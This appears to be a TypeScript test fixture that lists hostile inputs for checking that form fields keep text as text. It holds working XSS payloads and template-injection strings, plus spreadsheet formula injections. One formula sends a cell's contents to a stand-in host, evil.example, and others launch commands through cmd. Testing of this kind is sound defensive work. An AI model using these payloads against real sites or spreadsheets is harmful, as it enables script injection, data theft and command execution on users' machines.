/** Hostile input that tries to be more than text, each longer than the minimum of our fields. */
export const hostileWords: Record<string, string> = {
  script: '<script>window.taken=1</script>',
  'script that breaks out': '</script></style></textarea></title></dialog><script>window.taken=1</script>',
  'script in capitals': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  handler: '<img src=x onerror="window.taken=1">',
  'handler without quotes': '<img/src=x/onerror=window.taken=1>',
  'handler that needs no picture': '<details open ontoggle=window.taken=1>',
  'attribute with a handler': '" autofocus onfocus="window.taken=1" x="',
  'attribute in single quotes': "' onmouseover='window.taken=1' x='",
  'attribute that closes its element': '"><svg onload=window.taken=1>',
  'address that is a script': 'javascript:window.taken=1//',
  'link to a script': '<a href="jAvAsCrIpT&colon;window.taken=1">look</a>',
  'address of data': 'data:text/html,<script>window.taken=1</script>',
  svg: '<svg><animate onbegin=window.taken=1 attributeName=x dur=1s>',
  'svg with a script': '<svg><script>window.taken=1&lt;/script></svg>',
  'mathml that changes the parser': '<math><mtext><table><mglyph><style><img src=x onerror=window.taken=1>',
  frame: '<iframe srcdoc="<script>parent.taken=1</script>"></iframe>',
  'page that moves': '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example/">',
  form: '<form action="//evil.example"><button formaction="//evil.example">Send',
  style: '<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
  template: '{{constructor.constructor("window.taken=1")()}} ${window.taken=1} <%= 7*7 %> #{7*7}',
  comment: '--><!--[if IE]><script>window.taken=1</script><![endif]--> <![CDATA[ ]]>',
  entities: '&lt;script&gt;window.taken=1&lt;/script&gt; &amp; &#60;b&#62; &nbsp;',
  'json that breaks out': '"}]);window.taken=1;([{"\\u003c/script>\\',
  'separators of lines': 'one\u2028window.taken=1\u2029two',
  'override of direction': '\u202Eecnerefer eht\u202C \u2067tfel\u2069 \u200F(ok)',
  'hardly anything to be seen': '\u200Bnothing\u2060\uFEFF\u00AD \u00A0to\u200B be\u3164seen\u200B',
  'null and its kin': 'null undefined NaN [object Object] __proto__ constructor %00 \\0',
  'formula with equals': '=HYPERLINK("https://evil.example?"&A1,"look")',
  'formula with plus': "+1+cmd|' /C calc'!A0",
  'formula with minus': "-2+3+cmd|' /C calc'!A0",
  'formula with at': "@SUM(1+1)*cmd|' /C calc'!A0",
  'formula in full width': '＝1＋1*cmd|calc',
  'cells of a table': 'one","=1+1",";=2+2;\t=3+3',
  'a very long word': 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft'.slice(0, 90),
  emoji: '👩🏽‍🍼👨‍👩‍👧‍👦🏴󠁧󠁢󠁷󠁬󠁳󠁿 é e\u0301 ﷽ Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
  'half a character': 'half \uFFFD a pair',
}

/** Half of a surrogate pair, which HTTP can carry but no text can hold. A text has U+FFFD in its place. */
export const halfPair = '%ED%A0%BD'

/** The received text: each of the three bytes is replaced. */
export function asReceived(text: string): string {
  return text.replaceAll('\uFFFD', '\uFFFD\uFFFD\uFFFD').trim()
}
